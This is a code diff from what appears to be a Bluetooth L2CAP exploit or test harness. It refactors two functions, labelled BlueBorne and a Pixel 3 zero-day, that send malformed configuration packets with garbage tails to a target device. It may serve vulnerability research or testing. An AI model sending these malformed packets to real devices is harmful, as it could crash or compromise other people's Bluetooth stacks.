@@ -55,8 +55,9 @@ def blueborne_flow() -> None:
         print(f"<- {response.command_name}")
 
     print("-> Malformed Configuration Response - Pending (garbage tail)")
-    malformed = configuration_response(scid=dcid, result=0x0004, identifier=3)
-    malformed.garbage = b"\x41" * 12
+    malformed = configuration_response(scid=dcid, result=0x0004, identifier=3).replace(
+        garbage=b"\x41" * 12
+    )
     responses = queue.send(malformed)
     rejected = any(r.code == CommandCode.COMMAND_REJECT for r in responses)
     print(f"   rejected by target: {rejected}  (BlueBorne premise: accepted)")
@@ -77,8 +78,9 @@ def pixel3_zero_day() -> None:
     queue.send(connection_request(psm=Psm.SDP, scid=0x0071, identifier=3))
     print(f"Dangling DCID prepared: 0x{stale:04X}")
 
-    attack = configuration_request(dcid=stale, identifier=4)
-    attack.garbage = bytes.fromhex("D23A910E")
+    attack = configuration_request(dcid=stale, identifier=4).replace(
+        garbage=bytes.fromhex("D23A910E")
+    )
     print(f"-> {attack.describe()}")
     try:
         queue.send(attack)
